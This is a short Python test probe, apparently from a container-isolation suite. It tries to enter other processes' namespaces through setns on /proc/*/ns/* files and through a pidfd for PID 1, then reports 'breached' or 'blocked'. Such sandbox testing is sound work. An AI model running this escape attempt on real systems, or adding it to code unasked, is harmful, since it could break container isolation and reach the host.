# attack: enters namespaces of other processes, by file and by pidfd
# verdict: completed
# prints: blocked
# runtime: runc (gVisor's kernel may let it enter its own namespaces, which are not the host's)
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
done = []
for path in glob.glob("/proc/*/ns/*"):
    try:
        file = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(file, 0) == 0:
        done.append(path)
    os.close(file)
try:
    first = os.pidfd_open(1)
    if libc.setns(first, 0x10000000 | 0x20000) == 0:
        done.append("pidfd of 1")
except OSError:
    pass
print(f"breached: {done}" if done else "blocked")
